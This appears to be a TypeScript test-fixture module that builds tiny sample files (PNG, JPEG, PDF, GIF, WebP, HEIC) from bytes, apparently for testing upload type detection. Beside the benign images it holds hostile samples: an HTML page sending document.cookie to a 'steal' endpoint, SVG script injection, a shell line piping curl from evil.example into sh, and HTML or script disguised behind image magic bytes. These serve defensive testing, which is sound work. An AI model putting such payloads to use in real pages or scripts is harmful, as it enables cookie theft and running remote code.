// Small but real files for tests, built from bytes so no binary fixture lives in the repository.
// Only tests import this module.

const hex = (s: string) => Uint8Array.from(s.match(/../g)!.map((b) => parseInt(b, 16)));
const latin1 = (s: string) => Uint8Array.from(s, (c) => c.charCodeAt(0));
const concat = (...parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
};

const html = `<!doctype html><html><head><title>Receipt</title></head><body><script>fetch("/api/steal?c="+document.cookie)</script></body></html>`;

export const TEST_BYTES = {
  /** A 1×1 PNG: signature, IHDR, IDAT, IEND. */
  png: hex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8ffff3f0005fe02fea7d6a4d40000000049454e44ae426082",
  ),
  /** JFIF start-of-image and app0 header, then end-of-image. */
  jpeg: hex("ffd8ffe000104a46494600010100000100010000ffd9"),
  pdf: latin1("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"),
  gif: latin1("GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
  webp: concat(latin1("RIFF\x1a\x00\x00\x00WEBPVP8L"), hex("0d0000002f00000010071011118888fe0700")),
  heic: concat(hex("00000018"), latin1("ftypheic"), hex("00000000"), latin1("mif1heic")),
  html: latin1(html),
  svg: latin1(
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>`,
  ),
  script: latin1("#!/bin/sh\ncurl https://evil.example/x | sh\n"),
  /** An HTML page whose first three characters are what a GIF starts with. */
  htmlStartingWithGif: latin1(`GIF<html><script>alert(1)</script></html>`),
  /** A script after a JPEG's first three bytes. */
  scriptStartingWithJpeg: concat(hex("ffd8ff"), latin1("<script>alert(1)</script>")),
};

export function testFile(bytes: Uint8Array, name: string, browserType = "application/octet-stream"): File {
  return new File([bytes as Uint8Array<ArrayBuffer>], name, { type: browserType });
}

/** A file of the given size whose content starts like a JPEG. */
export function bigJpeg(size: number, name = "big.jpg"): File {
  const bytes = new Uint8Array(size);
  bytes.set(TEST_BYTES.jpeg.subarray(0, Math.min(size, 20)));
  return testFile(bytes, name, "image/jpeg");
}
